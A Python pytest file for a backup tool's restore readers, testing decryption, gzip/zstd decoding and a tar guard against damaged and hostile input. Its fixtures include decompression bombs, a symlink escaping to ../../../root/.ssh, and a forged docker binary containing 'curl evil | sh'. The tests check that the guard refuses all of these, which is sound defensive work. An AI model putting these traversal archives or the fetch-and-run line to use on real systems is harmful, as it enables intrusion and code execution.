"""Restore-side tar readers: storage -> verify -> age -> gunzip/unzstd -> tar guard.
Real age encryption and a local storage directory; no network."""

from __future__ import annotations

import gzip
import hashlib
import os
import subprocess
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.unit.tarcraft import Entry, gnu_tar, nasty_tree, with_tarfile
from vkbackup.crypto import X25519Identity, encrypt_bytes, generate_identity
from vkbackup.errors import CryptoError, IntegrityError, RestoreError, VkError
from vkbackup.manifest import ObjectRecord
from vkbackup.restore.objects import (
    DecodingReader,
    Gunzip,
    ObjectStream,
    TarCheck,
    Unzstd,
    open_object,
)
from vkbackup.storage.local import LocalStorage
from vkbackup.streams import CHUNK, BytesReader, iter_chunks

Opener = Callable[..., Any]


def open_plain_tar(*args: Any, tar: TarCheck | None = None) -> ObjectStream:
    """The decompressed tar, guarded (what a target without the decompressor gets)."""
    return open_object(*args, tar=tar or TarCheck(), decompress=True)


def open_checked_object(*args: Any, tar: TarCheck | None = None) -> ObjectStream:
    """The stored plaintext, released chunk by chunk once the guard passed it."""
    return open_object(*args, tar=tar or TarCheck())


KEY = "data/prod/20261126T020000Z-abcd/chatwoot-storage/volume.tar.gz.age"


@pytest.fixture(scope="module")
def ident() -> X25519Identity:
    return generate_identity()


def store(
    tmp_path: Path, ident: X25519Identity, plain: bytes, compression: str = "gzip"
) -> tuple[LocalStorage, ObjectRecord]:
    storage = LocalStorage(tmp_path / "store")
    cipher = encrypt_bytes(plain, [ident.recipient()])
    storage.put(KEY, BytesReader(cipher))
    rec = ObjectRecord(
        key=KEY,
        source="chatwoot-storage",
        name="volume.tar.gz.age",
        role="tar",
        size=len(cipher),
        sha256=hashlib.sha256(cipher).hexdigest(),
        compression=compression,
    )
    return storage, rec


# -- gunzip ----------------------------------------------------------------------------


def test_gunzip_concatenated_members_and_small_reads() -> None:
    data = gzip.compress(b"one\n") + gzip.compress(b"two\n" * 1000)
    r = DecodingReader(BytesReader(data), Gunzip(KEY))
    assert b"".join(iter_chunks(r, 7)) == b"one\n" + b"two\n" * 1000


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (gzip.compress(b"x" * 100_000)[:-9], "truncated"),
        (gzip.compress(b"x") + b"garbage", "trailing data"),
        (b"\x1f\x8b\x08\x00" + os.urandom(100), "corrupt"),
        (b"", "empty"),
        (b"not gzip at all", "corrupt"),
    ],
)
def test_gunzip_refuses_bad_streams_naming_the_object(data: bytes, why: str) -> None:
    with pytest.raises(IntegrityError) as info:
        b"".join(iter_chunks(DecodingReader(BytesReader(data), Gunzip(KEY))))
    assert KEY in str(info.value) and why in str(info.value)


def test_gzip_bomb_is_decompressed_in_bounded_pieces() -> None:
    """256 MiB of zeros in ~250 KiB of gzip: output comes in pieces of at most CHUNK,
    so memory stays bounded whatever the ratio."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    bomb = b"".join(comp.compress(block) for _ in range(256)) + comp.flush()
    assert len(bomb) < 400_000
    gz = Gunzip(KEY)
    biggest = total = 0
    for piece in gz.feed(bomb):
        biggest = max(biggest, len(piece))
        total += len(piece)
    gz.end()
    assert total == 256 << 20 and biggest <= CHUNK


# -- unzstd ----------------------------------------------------------------------------


def zstd_cli(data: bytes, *args: str) -> bytes:
    """Compress with the zstd tool, as the host does (snapshot compression "zstd")."""
    return subprocess.run(
        ["zstd", "-q", "-c", *args], input=data, capture_output=True, check=True
    ).stdout


def test_unzstd_reads_what_the_host_tool_writes_in_small_reads() -> None:
    data = os.urandom(300_000) + b"text\n" * 200_000
    for args in (("-T0", "-3"), ("-1",), ("-19",)):
        comp = zstd_cli(data, *args)
        assert b"".join(iter_chunks(DecodingReader(BytesReader(comp), Unzstd(KEY)), 7)) == data
    # concatenated frames (zstd -dc reads them as one stream)
    two = zstd_cli(b"one\n") + zstd_cli(b"two\n" * 1000)
    got = b"".join(iter_chunks(DecodingReader(BytesReader(two), Unzstd(KEY))))
    assert got == b"one\n" + b"two\n" * 1000


@pytest.mark.parametrize(
    ("make", "why"),
    [
        (lambda: zstd_cli(os.urandom(200_000))[:-9], "truncated"),
        (lambda: zstd_cli(b"x") + b"garbage", "trailing data"),
        (lambda: b"\x28\xb5\x2f\xfd" + os.urandom(100), "corrupt"),
        (lambda: b"", "empty"),
        (lambda: b"not zstd at all", "corrupt"),
    ],
)
def test_unzstd_refuses_bad_streams_naming_the_object(make: Callable[[], bytes], why: str) -> None:
    with pytest.raises(IntegrityError) as info:
        b"".join(iter_chunks(DecodingReader(BytesReader(make()), Unzstd(KEY))))
    assert KEY in str(info.value) and why in str(info.value)


def test_zstd_bomb_is_decompressed_in_bounded_pieces() -> None:
    bomb = zstd_cli(bytes(256 << 20), "-19")
    assert len(bomb) < 100_000
    dec = Unzstd(KEY)
    biggest = total = 0
    for piece in dec.feed(bomb):
        biggest = max(biggest, len(piece))
        total += len(piece)
    dec.end()
    assert total == 256 << 20 and biggest <= CHUNK


# -- the two readers -------------------------------------------------------------------


@pytest.fixture(scope="module")
def volume_tar(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    root = tmp_path_factory.mktemp("vol") / "v"
    nasty_tree(root)
    return gnu_tar(root)


def test_plain_tar_is_the_decompressed_archive(
    tmp_path: Path, ident: X25519Identity, volume_tar: bytes
) -> None:
    storage, rec = store(tmp_path, ident, gzip.compress(volume_tar, 1))
    with open_plain_tar(storage, rec, [ident], tar=TarCheck.volume()) as r:
        assert b"".join(iter_chunks(r)) == volume_tar
        assert r.guard is not None and r.guard.members > 20


def test_checked_object_is_the_stored_plaintext(
    tmp_path: Path, ident: X25519Identity, volume_tar: bytes
) -> None:
    gz = gzip.compress(volume_tar, 1)
    storage, rec = store(tmp_path, ident, gz)
    with open_checked_object(storage, rec, [ident], tar=TarCheck.volume()) as r:
        out = b"".join(iter_chunks(r))
    assert out == gz
    # an uncompressed object is guarded the same way
    storage, rec = store(tmp_path / "plain", ident, volume_tar, compression="none")
    with open_checked_object(storage, rec, [ident], tar=TarCheck.volume()) as r:
        assert b"".join(iter_chunks(r)) == volume_tar


HOSTILE = with_tarfile(
    [Entry("ok/" + str(i), data=os.urandom(30_000)) for i in range(40)]
    + [Entry("escape", "symlink", link="../../../root/.ssh")]
    + [Entry("after", data=b"x" * 100)]
)


@pytest.mark.parametrize("compression", ["gzip", "zstd"])
@pytest.mark.parametrize("opener", [open_plain_tar, open_checked_object])
def test_hostile_member_refused_before_its_header_is_released(
    tmp_path: Path, ident: X25519Identity, opener: Opener, compression: str
) -> None:
    packed = gzip.compress(HOSTILE, 1) if compression == "gzip" else zstd_cli(HOSTILE, "-3")
    storage, rec = store(tmp_path, ident, packed, compression=compression)
    released = bytearray()
    opts = {"tar": TarCheck.volume()}
    with pytest.raises(IntegrityError) as info, opener(storage, rec, [ident], **opts) as r:
        while chunk := r.read(4096):
            released += chunk
    assert KEY in str(info.value) and "'escape'" in str(info.value)
    assert "climbs out of the archive root" in str(info.value)
    header_end = HOSTILE.index(b"escape\0") + 512
    if opener is open_checked_object:
        # what left is compressed: everything it decompresses to stops short of the
        # header (a streaming decoder, as the target's gzip -d / zstd -d would be)
        if compression == "gzip":
            released_tar = zlib.decompressobj(31).decompress(bytes(released))
        else:
            released_tar = b"".join(Unzstd(KEY).feed(bytes(released)))
    else:
        released_tar = bytes(released)
    assert len(released_tar) < header_end
    assert released_tar == HOSTILE[: len(released_tar)]


def test_files_step_refuses_members_outside_its_recorded_paths(
    tmp_path: Path, ident: X25519Identity
) -> None:
    tar = with_tarfile([Entry("opt/app/.env", data=b"A=1\n"), Entry("etc/passwd", data=b"x")])
    storage, rec = store(tmp_path, ident, gzip.compress(tar))
    opts = {"tar": TarCheck.files(["/opt/app/.env"])}
    with pytest.raises(IntegrityError) as info, open_plain_tar(storage, rec, [ident], **opts) as r:
        b"".join(iter_chunks(r))
    assert "'etc/passwd'" in str(info.value) and "not one of the paths" in str(info.value)


FORGED = with_tarfile(
    [
        Entry("srv/app/.env", data=b"A=1\n"),
        Entry("srv/app/sub", "dir"),
        Entry("srv/app/sub/x", data=b"x"),
        Entry("usr/local/bin/docker", data=b"#!/bin/sh\ncurl evil | sh\n"),
    ]
)


@pytest.mark.parametrize("opener", [open_plain_tar, open_checked_object])
def test_files_step_refuses_a_member_outside_the_patterns_a_forged_list_allows(
    tmp_path: Path, ident: X25519Identity, opener: Opener
) -> None:
    """The member list comes from the host (or a forged manifest) and allows the extra
    path; the recorded patterns do not, and the stream stops before its header."""
    storage, rec = store(tmp_path, ident, gzip.compress(FORGED))
    forged_list = ["/srv/app/.env", "/srv/app/sub", "/usr/local/bin/docker"]
    check = TarCheck.files(forged_list, patterns=["/srv/app/.env", "/srv/app/s*"])
    released = bytearray()
    with pytest.raises(IntegrityError) as info, opener(storage, rec, [ident], tar=check) as r:
        while chunk := r.read(4096):
            released += chunk
    assert "'usr/local/bin/docker'" in str(info.value)
    assert "outside the source's configured paths" in str(info.value)
    if opener is open_plain_tar:
        assert len(released) < FORGED.index(b"usr/local/bin/docker\0") + 512
    # the same list without the forged member, and the same patterns, pass a clean tar
    clean = with_tarfile([Entry("srv/app/.env", data=b"A=1\n"), Entry("srv/app/sub/x")])
    storage, rec = store(tmp_path / "clean", ident, gzip.compress(clean))
    with opener(storage, rec, [ident], tar=check) as r:
        b"".join(iter_chunks(r))
    # a hard link from an allowed member to a path outside the patterns is refused too
    linked = with_tarfile([Entry("srv/app/.env", "hardlink", link="usr/local/bin/docker")])
    storage, rec = store(tmp_path / "link", ident, gzip.compress(linked))
    with pytest.raises(IntegrityError) as info, opener(storage, rec, [ident], tar=check) as r:
        b"".join(iter_chunks(r))
    assert "hard link target 'usr/local/bin/docker' is outside" in str(info.value)


@pytest.mark.parametrize("damage", ["flip", "truncate"])
@pytest.mark.parametrize("opener", [open_plain_tar, open_checked_object, open_object])
def test_damaged_object_refused_before_eof(
    tmp_path: Path, ident: X25519Identity, volume_tar: bytes, damage: str, opener: Opener
) -> None:
    storage, rec = store(tmp_path, ident, gzip.compress(volume_tar, 1))
    path = storage.root / KEY
    data = bytearray(path.read_bytes())
    if damage == "flip":
        data[len(data) // 2] ^= 0x10
    else:
        del data[-1000:]
    path.write_bytes(bytes(data))
    with pytest.raises(VkError) as info:
        r = opener(storage, rec, [ident])
        while r.read(CHUNK):
            pass
    assert isinstance(info.value, IntegrityError | CryptoError)
    assert KEY in str(info.value)


def test_unknown_compression_is_refused_with_a_reason(
    tmp_path: Path, ident: X25519Identity
) -> None:
    storage, rec = store(tmp_path, ident, b"whatever", compression="lz4")
    with pytest.raises(RestoreError) as info:
        open_plain_tar(storage, rec, [ident])
    assert KEY in str(info.value) and "lz4" in str(info.value)


def test_tar_checks() -> None:
    assert TarCheck.files(["/a"]) == TarCheck(allowed=("/a",), absolute_symlinks=True)
    assert TarCheck.volume().allowed is None


@pytest.mark.parametrize("compression", ["gzip", "zstd"])
def test_real_tar_extracts_what_the_guard_passed(
    tmp_path: Path, ident: X25519Identity, volume_tar: bytes, compression: str
) -> None:
    packed = gzip.compress(volume_tar, 1) if compression == "gzip" else zstd_cli(volume_tar)
    storage, rec = store(tmp_path, ident, packed, compression=compression)
    out = tmp_path / "out"
    out.mkdir()
    unpack = "gzip -dc" if compression == "gzip" else "zstd -qdc"
    with open_checked_object(storage, rec, [ident], tar=TarCheck.volume()) as r:
        subprocess.run(
            ["bash", "-c", f"{unpack} | tar -C {out} -xpf - --numeric-owner"],
            input=b"".join(iter_chunks(r)),
            check=True,
        )
    assert os.readlink(out / "links" / "absolute-link") == "/app/storage/links/original.txt"
    assert os.stat(out / "links" / "original.txt").st_nlink == 3


# -- speed -----------------------------------------------------------------------------


def test_pipeline_speed_with_and_without_the_guard(
    tmp_path: Path, ident: X25519Identity, record_property: Callable[[str, object], None]
) -> None:
    """256 MiB tar (gzip -1 of partly compressible data), encrypted: restore's reader
    without the guard (open_object: verify + age) against the guarded readers."""
    chunk = os.urandom(1 << 19) + bytes(1 << 19)
    entries = [Entry(f"big/{i}.bin", data=chunk * 16) for i in range(16)]
    tar = with_tarfile(entries)
    gz = gzip.compress(tar, 1)
    storage, rec = store(tmp_path, ident, gz)

    def rate(open_: Opener, **kw: object) -> float:
        best = 0.0
        for _ in range(2):
            t0 = time.perf_counter()
            r = open_(storage, rec, [ident], **kw)
            n = sum(len(c) for c in iter_chunks(r))
            best = max(best, len(tar) / (time.perf_counter() - t0) / 1e6)
            assert n in (len(tar), len(gz))
        return best

    base = rate(open_object)
    checked = rate(open_checked_object, tar=TarCheck.volume())
    plain = rate(open_plain_tar, tar=TarCheck.volume())
    record_property("restore_reader_mb_s", {"base": base, "checked": checked, "plain": plain})
    print(
        f"\n256 MiB tar restore reader (MB/s of tar): verify+age {base:.0f}, "
        f"+shadow gunzip+guard {checked:.0f}, +gunzip+guard (plain tar out) {plain:.0f}"
    )
    assert len(tar) >= 256 << 20
    assert checked > 100 and plain > 100


def test_zstd_frame_asking_for_a_huge_window_is_refused() -> None:
    """A frame that needs a 128 MiB window (zstd --long=27) would cost that much memory
    here: refused as corrupt, naming the object."""
    data = os.urandom(1 << 20) * 3
    comp = zstd_cli(data, "--long=27", "-3")
    with pytest.raises(IntegrityError) as info:
        b"".join(iter_chunks(DecodingReader(BytesReader(comp), Unzstd(KEY))))
    assert KEY in str(info.value)
